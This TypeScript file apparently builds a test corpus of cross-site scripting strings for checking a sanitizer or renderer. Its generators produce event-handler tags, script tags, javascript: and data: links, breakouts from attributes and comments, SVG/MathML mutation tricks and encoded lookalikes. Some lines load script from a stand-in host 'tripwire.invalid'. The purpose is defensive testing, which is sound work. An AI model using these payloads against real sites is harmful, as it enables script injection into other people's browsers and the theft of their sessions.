import { distinct, oddCase, pairs, sequences } from "./grammar.ts";

/** Where a line that is taken for markup would call, if it called a server. Nobody has this name. */
export const TRIPWIRE_HOST = "tripwire.invalid";

/** What such a line would do, so that it is noticed. */
const ACTS = [
  "alert(1)",
  "alert`1`",
  "top['al'+'ert'](1)",
  "self[`alert`](1)",
  "(0,eval)('alert(1)')",
  "console.log('tripwire')",
  "import('//tripwire.invalid/a.js')",
  "location='//tripwire.invalid/'",
  "setTimeout('alert(1)')",
  "&#97;lert(1)",
  "\\u0061lert(1)",
];

/** Texts that would run, load or leave if a page took them for markup. Made here. */
export const markupLines: Record<string, readonly string[]> = {
  events: events(),
  scripts: scripts(),
  addresses: addresses(),
  breakouts: breakouts(),
  foreign: foreignContent(),
  references: references(),
};

export const allMarkupLines: readonly string[] = distinct(Object.values(markupLines).flat());

/** Elements with an attribute that runs as soon as they are drawn, in each spelling of elements and attributes. */
function events(): string[] {
  const elements = [
    "img src=x onerror",
    "img src=data:, onerror",
    "svg onload",
    "body onload",
    "body onpageshow",
    "video src=x onerror",
    "audio src=x onerror",
    "video><source onerror",
    "object data=x onerror",
    "iframe src=about:blank onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "button autofocus onfocus",
    "a href=# tabindex=0 autofocus onfocus",
    "div tabindex=0 autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "style onload",
    "link rel=stylesheet href=data:, onload",
    "embed src=x onload",
    "x contenteditable autofocus onfocus",
    "p style=animation:x onanimationstart",
    "svg><animate attributeName=x dur=1s onbegin",
    "svg><image href=x onerror",
    "math><mi tabindex=0 autofocus onfocus",
    "div popover onbeforetoggle",
    "track src=x onerror",
    "dialog open oncancel",
    "meter onmouseover",
    "img src=x decoding=sync loading=eager onerror",
    "script src=x onerror",
  ];
  const separators = [" ", "\t", "/", "  ", "/ /"];
  const quotes = ["", '"', "'", "`"];
  const ends = [">", "/>", " x>", "//", "", " ><b>"];
  return pairs(elements, ACTS, (element, act, turn) => {
    const quote = turn(quotes);
    const spelt = turn([element, element.toUpperCase(), oddCase(element)]);
    return `<${spelt.replace(" ", turn(separators))}=${quote}${act}${quote}${turn(ends)}`;
  });
}

/** Scripts, and what hides one from a reader of letters. */
function scripts(): string[] {
  const opens = [
    "<script>",
    "<SCRIPT>",
    "<ScRiPt >",
    "<script/x>",
    "<script\t>",
    "<script type=module>",
    "<script src=//tripwire.invalid/a.js>",
    "<script async src=data:text/javascript,alert(1)>",
    "<<script>",
    "<scr<script>ipt>",
    "<script\n>",
    "<svg><script>",
    "<template><script>",
    "<noscript><script>",
    "<xmp><script>",
  ];
  return pairs(opens, ACTS, (open, act, turn) => {
    const before = turn(["", "안녕하세요 ", "'", "]]>", "<!-- -->"]);
    return `${before}${open}${act}${turn(["</script>", "</SCRIPT >", "</script\t>", "<!--", "//</script>"])}`;
  });
}

/** Links and frames whose address runs or leaves. */
function addresses(): string[] {
  const schemes = [
    "javascript:",
    "JavaScript:",
    "java\tscript:",
    "java&#10;script:",
    "&#106;avascript:",
    "javascript&colon;",
    " javascript:",
    "\u0001javascript:",
    "javascript://%0a",
    "vbscript:",
    "data:text/html,<script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "//tripwire.invalid/?",
    "https:tripwire.invalid/?",
    "\\\\tripwire.invalid\\?",
    "blob:",
    "view-source:",
  ];
  const places = [
    '<a href="·">누르기</a>',
    '<iframe src="·">',
    '<form action="·"><input type=submit autofocus>',
    '<button formaction="·">',
    '<object data="·">',
    '<embed src="·">',
    '<meta http-equiv=refresh content="0;url=·">',
    '<base href="·">',
    '<svg><a xlink:href="·"><text>x',
    '<math href="·">x',
    '<area shape=default href="·">',
    '<img srcset="· 1x">',
    '<link rel=prefetch href="·">',
    '<video poster="·">',
    '<body background="·">',
    "[누르기](·)",
  ];
  return pairs(schemes, places, (scheme, place) => place.replace("·", `${scheme}alert(1)`));
}

/** Out of an attribute, a text field, a comment, a script or a style, and then something that runs. */
function breakouts(): string[] {
  const outs = [
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "--!>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</option></select>",
    "]]>",
    "*/",
    "\\",
    "\\u003c/script\\u003e",
    "</h1>",
    "}};",
  ];
  const ins = [
    "<img src=x onerror=alert(1)>",
    " onfocus=alert(1) autofocus x=",
    "<svg/onload=alert(1)>",
    ";alert(1)//",
    "-alert(1)-",
    "<script>alert(1)</script>",
    " style=animation-name:x onanimationstart=alert(1) ",
    "<style>@import'//tripwire.invalid/a.css'</style>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "${alert(1)}",
  ];
  return pairs(outs, ins, (out, inner) => `${out}${inner}`);
}

/** SVG and MathML, where the rules of HTML change, and what changes again when it is read a second time. */
function foreignContent(): string[] {
  return sequences(
    [
      "<svg><style>",
      "<math><mtext><table><mglyph><style>",
      "<svg></p><style>",
      "<form><math><mtext></form><form><mglyph><style>",
      "<noscript><p title='",
      "<svg><desc><style>",
      "<select><template>",
      "<svg><title><a id='",
      "<math><annotation-xml encoding=text/html><style>",
    ],
    ["</style>", "<!--</style>", "'>", "</title>", "</noscript>", "-->"],
    ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>"],
  );
}

/** The same signs written as references, escapes and lookalikes: they show as they were typed. */
function references(): string[] {
  const signs = [
    ["&lt;", "&gt;"],
    ["&#60;", "&#62;"],
    ["&#x3c;", "&#x3e;"],
    ["&#0000060", "&#0000062"],
    ["\\x3c", "\\x3e"],
    ["\\u003c", "\\u003e"],
    ["\\74", "\\76"],
    ["%3c", "%3e"],
    ["%253c", "%253e"],
    ["＜", "＞"],
    ["‹", "›"],
    ["+ADw-", "+AD4-"],
    ["&amp;lt;", "&amp;gt;"],
    ["&LT", "&GT"],
  ] as const;
  const elements = [
    "script§alert(1)",
    "img src=x onerror=alert(1)§",
    "svg/onload=alert(1)§",
    "b§굵게",
  ];
  return signs.flatMap(([open, close]) =>
    elements.map((element) => `${open}${element.replace("§", close)}`),
  );
}
